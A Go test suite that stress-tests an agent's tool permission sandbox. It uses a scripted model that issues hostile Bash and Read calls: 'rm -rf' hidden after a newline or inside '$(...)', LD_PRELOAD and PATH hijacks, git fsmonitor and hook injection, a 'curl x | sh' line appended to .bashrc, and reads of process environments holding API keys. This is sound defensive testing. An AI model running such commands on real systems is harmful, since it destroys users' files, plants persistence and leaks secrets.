package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentscope-go/agentscope/event"
)

// callModel is a scripted model over real HTTP, speaking OpenAI's
// streamed chat completions: a user message "CALL <tool> <json input>"
// gets that one tool call back, and once the last message is a tool
// result, the text "done."; so the built binary runs exactly the calls a
// test names, as a model talked into them would.
func callModel(t *testing.T) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Messages []struct {
				Role    string          `json:"role"`
				Content json.RawMessage `json:"content"`
			} `json:"messages"`
		}
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil || len(req.Messages) == 0 {
			http.Error(w, "bad request", http.StatusBadRequest)
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		chunk := func(delta any, finish string) {
			c := map[string]any{"index": 0, "delta": delta}
			if finish != "" {
				c["finish_reason"] = finish
			}
			b, _ := json.Marshal(map[string]any{"choices": []any{c}})
			fmt.Fprintf(w, "data: %s\n\n", b)
		}
		// The prompt is the last user message naming a call (a runtime
		// hint may follow it); once a tool result follows, the call ran.
		var text string
		answered := false
		for _, m := range req.Messages {
			switch t := contentText(m.Content); {
			case m.Role == "user" && strings.Contains(t, "CALL "):
				text, answered = t[strings.Index(t, "CALL "):], false
			case m.Role == "tool":
				answered = true
			}
		}
		name, input, isCall := strings.Cut(strings.TrimPrefix(text, "CALL "), " ")
		if answered || !isCall {
			chunk(map[string]any{"role": "assistant", "content": "done."}, "stop")
		} else {
			chunk(map[string]any{"role": "assistant", "tool_calls": []any{map[string]any{
				"index": 0, "id": "call_1", "type": "function",
				"function": map[string]any{"name": name, "arguments": input},
			}}}, "")
			chunk(map[string]any{}, "tool_calls")
		}
		fmt.Fprint(w, "data: [DONE]\n\n")
	}))
	t.Cleanup(srv.Close)
	return "openai-compatible:scripted@" + srv.URL + "/v1"
}

func contentText(raw json.RawMessage) string {
	var s string
	if json.Unmarshal(raw, &s) == nil {
		return s
	}
	var parts []struct {
		Text string `json:"text"`
	}
	json.Unmarshal(raw, &parts)
	var b strings.Builder
	for _, p := range parts {
		b.WriteString(p.Text)
	}
	return b.String()
}

// bashCall is the prompt that makes callModel run command with Bash.
func bashCall(command string) string {
	in, _ := json.Marshal(map[string]string{"command": command})
	return "CALL Bash " + string(in)
}

func toolCall(name string, input map[string]any) string {
	in, _ := json.Marshal(input)
	return "CALL " + name + " " + string(in)
}

// snapshot is every file under some roots: its mode, and its content's
// hash or its link's target.
func snapshot(t *testing.T, roots ...string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, root := range roots {
		err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			fi, err := d.Info()
			if err != nil {
				return err
			}
			v := fi.Mode().String()
			switch {
			case fi.Mode()&fs.ModeSymlink != 0:
				target, _ := os.Readlink(p)
				v += " -> " + target
			case fi.Mode().IsRegular():
				b, err := os.ReadFile(p)
				if err != nil {
					return err
				}
				v += fmt.Sprintf(" %x", sha256.Sum256(b))
			}
			out[p] = v
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return out
}

func sameDisk(t *testing.T, before, after map[string]string) {
	t.Helper()
	for p, v := range before {
		if after[p] != v {
			t.Errorf("%s changed: %q -> %q", p, v, after[p])
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("%s appeared", p)
		}
	}
}

// sandboxCase is one thing a model must not talk the tools into.
type sandboxCase struct {
	name   string
	prompt func(wd, home, outside string) string
}

// unaskedCases are the reproductions: each asks in default mode,
// and is denied in explore and dont_ask, leaving the disk as it was.
var unaskedCases = []sandboxCase{
	{"newline before rm", func(wd, _, _ string) string { return bashCall("ls\nrm -rf victim") }},
	{"newline before a write outside", func(wd, _, outside string) string {
		return bashCall("ls\ncp victim " + outside + "/copied")
	}},
	{"LD_PRELOAD prefix", func(wd, _, _ string) string { return bashCall("LD_PRELOAD=" + wd + "/evil.so ls") }},
	{"PATH prefix runs a planted ls", func(wd, _, _ string) string { return bashCall("PATH=" + wd + "/bin:$PATH ls") }},
	{"PATH assignment then ls", func(wd, _, _ string) string { return bashCall("PATH=" + wd + "/bin; ls") }},
	{"git diff --output outside", func(wd, _, outside string) string {
		return bashCall("git diff --output=" + outside + "/precious.txt")
	}},
	{"git branch", func(wd, _, _ string) string { return bashCall("git branch X") }},
	{"git tag", func(wd, _, _ string) string { return bashCall("git tag X") }},
	{"git remote add", func(wd, _, _ string) string { return bashCall("git remote add evil https://example.com/x") }},
	{"fsmonitor through tee", func(wd, _, outside string) string {
		return bashCall("printf '[core]\\n\\tfsmonitor = touch " + outside + "/pwned\\n' | tee -a .git/config")
	}},
	{"tee a .bashrc", func(_, home, _ string) string { return bashCall("echo 'curl x | sh' | tee " + home + "/.bashrc") }},
	{"tee a git hook", func(wd, _, _ string) string { return bashCall("echo 'touch pwned' | tee .git/hooks/pre-commit") }},
	{"tee outside", func(_, _, outside string) string { return bashCall("echo x | tee " + outside + "/precious.txt") }},
	{"cat the environment", func(_, _, _ string) string { return bashCall("cat /proc/self/environ") }},
	{"cat the parent's environment", func(_, _, _ string) string { return bashCall("cat /proc/$PPID/environ") }},
	{"Read the environment", func(_, _, _ string) string {
		return toolCall("Read", map[string]any{"file_path": "/proc/self/environ"})
	}},
	{"Grep the environment", func(_, _, _ string) string {
		return toolCall("Grep", map[string]any{"pattern": "KEY", "path": "/proc/self/environ"})
	}},
	{"substitution", func(_, _, _ string) string { return bashCall("ls $(rm -rf victim)") }},
}

const secretKey = "sk-test-do-not-leak-7f3a"

// setupWorld makes a working directory (a git repository with a victim
// file, a planted bin/ls and a deep tree), a home and an outside
// directory with a precious file.
func setupWorld(t *testing.T) (wd, home, outside string) {
	t.Helper()
	root := t.TempDir()
	wd, home, outside = filepath.Join(root, "wd"), filepath.Join(root, "home"), filepath.Join(root, "outside")
	for _, d := range []string{wd, home, outside, filepath.Join(wd, "bin")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(p, s string, mode os.FileMode) {
		if err := os.WriteFile(p, []byte(s), mode); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(wd, "victim"), "precious\n", 0o644)
	write(filepath.Join(outside, "precious.txt"), "precious\n", 0o644)
	write(filepath.Join(home, ".bashrc"), "# mine\n", 0o644)
	write(filepath.Join(wd, "bin", "ls"), "#!/bin/sh\ntouch "+outside+"/pwned\n", 0o755)
	git := func(args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Dir = wd
		cmd.Env = append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q")
	git("-c", "user.name=t", "-c", "user.email=t@t", "add", "victim")
	git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init")
	return wd, home, outside
}

// runBinary runs the built binary in dir with HOME set and a provider
// key in its environment.
func runBinary(t *testing.T, bin, dir, home string, args ...string) (int, string, string, time.Duration) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+home, "OPENAI_API_KEY="+secretKey, "AGENTSCOPE_MODEL=", "GIT_CONFIG_NOSYSTEM=1")
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errOut
	start := time.Now()
	err := cmd.Run()
	took := time.Since(start)
	var ee *exec.ExitError
	switch {
	case err == nil:
		return 0, out.String(), errOut.String(), took
	case errors.As(err, &ee):
		return ee.ExitCode(), out.String(), errOut.String(), took
	}
	t.Fatal(err)
	return 0, "", "", 0
}

// `agentscope run --tools builtin` with a model talked into each case:
// default mode parks on a confirmation (run does not ask, so it exits
// naming the call), explore and dont_ask deny it; nothing on disk moves
// and the key never reaches the output.
func TestRunBuiltinToolsAskFirst(t *testing.T) {
	bin := buildBinary(t)
	uri := callModel(t)
	for _, c := range unaskedCases {
		t.Run(c.name, func(t *testing.T) {
			wd, home, outside := setupWorld(t)
			prompt := c.prompt(wd, home, outside)
			before := snapshot(t, wd, home, outside)
			for _, mode := range []string{"default", "explore", "dont_ask"} {
				code, stdout, stderr, _ := runBinary(t, bin, wd, home, "run", "--json", "--model", uri, "--tools", "builtin", "--permission-mode", mode, prompt)
				switch mode {
				case "default":
					if code != exitFailure || !strings.Contains(stderr, "waits for permission") || !strings.Contains(stdout, `"REQUIRE_USER_CONFIRM"`) {
						t.Errorf("%s: exit %d, stderr %q, stdout %s", mode, code, stderr, stdout)
					}
				default:
					if code != exitOK || !strings.Contains(stdout, "Permission denied") || strings.Contains(stdout, `"REQUIRE_USER_CONFIRM"`) {
						t.Errorf("%s: exit %d, stderr %q, stdout %s", mode, code, stderr, stdout)
					}
				}
				if strings.Contains(stdout+stderr, secretKey) {
					t.Errorf("%s: the key reached the output", mode)
				}
			}
			sameDisk(t, before, snapshot(t, wd, home, outside))
		})
	}
}

// A call that asks for confirmation suggests no rule wider than itself:
// none at all for a substitution, never "rm -rf:*".
func TestRunSuggestedRulesNeverWider(t *testing.T) {
	bin := buildBinary(t)
	uri := callModel(t)
	wd, home, _ := setupWorld(t)
	for cmd, want := range map[string]string{
		"ls $(rm -rf /)":  `"suggested_rules":[]`,
		"rm -rf victim":   `"rule_content":"rm -rf victim"`,
		"git commit -m x": `"rule_content":"git commit:*"`,
	} {
		_, stdout, _, _ := runBinary(t, bin, wd, home, "run", "--json", "--model", uri, "--tools", "builtin", bashCall(cmd))
		var confirm string
		for _, line := range strings.Split(stdout, "\n") {
			if strings.Contains(line, `"REQUIRE_USER_CONFIRM"`) {
				confirm = line
			}
		}
		if !strings.Contains(confirm, want) || strings.Contains(confirm, `"rm -rf:*"`) || strings.Contains(confirm, `"rm:*"`) {
			t.Errorf("%q: confirmation %s, want %s", cmd, confirm, want)
		}
	}
}

// makeHostileFiles adds a FIFO with no writer and a deep tree that made
// a pathological glob run for minutes.
func makeHostileFiles(t *testing.T, wd string) (fifo string) {
	t.Helper()
	fifo = filepath.Join(wd, "pipe")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	// A chain 80 directories deep: the old glob tried every way of
	// splitting a path among the pattern's "**"s.
	p := filepath.Join(wd, "deep")
	for i := 0; i < 80; i++ {
		p = filepath.Join(p, strings.Repeat("a", 20))
		if err := os.MkdirAll(p, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(p, "aaaaaaaaaaab"), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return fifo
}

// hostileReads end within seconds as errors, whatever the mode: Read of
// /dev/zero (it killed the process), of a FIFO (it blocked), and a
// pathological Glob (it ran 301 s).
func hostileReads(fifo string) []string {
	return []string{
		toolCall("Read", map[string]any{"file_path": "/dev/zero"}),
		toolCall("Read", map[string]any{"file_path": fifo}),
		toolCall("Glob", map[string]any{"pattern": "**/**/**/**/**/**/**/**/aaaaaaaaaaab"}),
	}
}

func TestRunHostileReadsEnd(t *testing.T) {
	bin := buildBinary(t)
	uri := callModel(t)
	wd, home, _ := setupWorld(t)
	for _, prompt := range hostileReads(makeHostileFiles(t, wd)) {
		code, stdout, stderr, took := runBinary(t, bin, wd, home, "run", "--json", "--model", uri, "--tools", "builtin", prompt)
		if code != exitOK || !strings.Contains(stdout, `"done."`) {
			t.Errorf("%s: exit %d after %s, stderr %q", prompt, code, took, stderr)
		}
		t.Logf("%s: %s", prompt, took)
	}
}

// `agentscope serve --tools builtin`: each case parks on a confirmation,
// nothing moves until someone confirms; the hostile reads end as errors
// and the server keeps serving other sessions.
func TestServeBuiltinToolsAskFirst(t *testing.T) {
	bin := buildBinary(t)
	uri := callModel(t)
	wd, home, outside := setupWorld(t)
	fifo := makeHostileFiles(t, wd)
	before := snapshot(t, wd, home, outside)
	addr := freeAddr(t)
	db := filepath.Join(t.TempDir(), "agentscope.db")
	cmd := exec.Command(bin, "serve", "--addr", addr, "--db", db, "--model", uri, "--id", "demo", "--tools", "builtin")
	cmd.Dir = wd
	cmd.Env = append(os.Environ(), "HOME="+home, "OPENAI_API_KEY="+secretKey, "AGENTSCOPE_MODEL=", "AGENTSCOPE_TOKEN=", "GIT_CONFIG_NOSYSTEM=1")
	var stderr syncBuffer // written by the process while the test reads it
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan struct{})
	go func() { cmd.Wait(); close(exited) }()
	t.Cleanup(func() {
		cmd.Process.Signal(syscall.SIGTERM)
		select {
		case <-exited:
		case <-time.After(30 * time.Second):
			cmd.Process.Kill()
			<-exited
		}
	})
	s := &served{t: t, cmd: cmd, url: "http://" + addr, exited: exited}
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if res, err := http.Get(s.url + "/health"); err == nil {
			res.Body.Close()
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("serve not healthy:\n%s", stderr.String())
		}
	}
	ask := func(prompt string) []sseFrame {
		sid := createSession(t, s)
		ch, stop := s.sse(sid, 0)
		defer stop()
		postChat(t, s, sid, prompt)
		frames := until(t, ch, event.TypeRequireUserConfirm)
		if code, body := s.call("GET", "/sessions/"+sid+"/status?agent_id=demo", ""); code != 200 || !strings.Contains(body, "awaiting_permission") {
			t.Errorf("%q: status %d %s", prompt, code, body)
		}
		return frames
	}
	for _, c := range unaskedCases {
		frames := ask(c.prompt(wd, home, outside))
		rq := frames[len(frames)-1].ev.(*event.RequireUserConfirm)
		if len(rq.ToolCalls) != 1 {
			t.Errorf("%s: %d calls asked", c.name, len(rq.ToolCalls))
		}
	}
	// The server's own store: another user's sessions.
	for _, prompt := range []string{toolCall("Read", map[string]any{"file_path": db}), bashCall("cat " + db + "-wal"), toolCall("Grep", map[string]any{"pattern": "x", "path": db})} {
		frames := ask(prompt)
		if rq := frames[len(frames)-1].ev.(*event.RequireUserConfirm); len(rq.ToolCalls) != 1 {
			t.Errorf("%s: %d calls asked", prompt, len(rq.ToolCalls))
		}
	}
	// No rule for a substitution.
	frames := ask(bashCall("ls $(rm -rf /)"))
	if rq := frames[len(frames)-1].ev.(*event.RequireUserConfirm); len(rq.ToolCalls[0].SuggestedRules) != 0 {
		t.Errorf("suggested %+v for a substitution", rq.ToolCalls[0].SuggestedRules)
	}
	sameDisk(t, before, snapshot(t, wd, home, outside))

	for _, prompt := range hostileReads(fifo) {
		sid := createSession(t, s)
		ch, stop := s.sse(sid, 0)
		postChat(t, s, sid, prompt)
		frames := until(t, ch, event.TypeReplyEnd)
		stop()
		if end := frames[len(frames)-1].ev.(*event.ReplyEnd); end.FinishedReason != event.ReplyCompleted {
			t.Errorf("%s: reply %s", prompt, end.FinishedReason)
		}
		res, err := http.Get(s.url + "/health")
		if err != nil || res.StatusCode != 200 {
			t.Fatalf("after %s the server is gone: %v\n%s", prompt, err, stderr.String())
		}
		res.Body.Close()
	}
	if strings.Contains(stderr.String(), secretKey) {
		t.Errorf("the key reached the log")
	}
}

// The control: the same harness in bypass mode runs the call, so the
// cases above prove the permission check, not a harness that runs
// nothing.
func TestRunBuiltinToolsBypassControl(t *testing.T) {
	bin := buildBinary(t)
	uri := callModel(t)
	wd, home, _ := setupWorld(t)
	code, stdout, stderr, _ := runBinary(t, bin, wd, home, "run", "--json", "--model", uri, "--tools", "builtin", "--permission-mode", "bypass", bashCall("ls\nrm -rf victim"))
	if code != exitOK || !strings.Contains(stdout, `"done."`) {
		t.Fatalf("exit %d, stderr %q", code, stderr)
	}
	if _, err := os.Stat(filepath.Join(wd, "victim")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("bypass did not run the call: %v", err)
	}
}
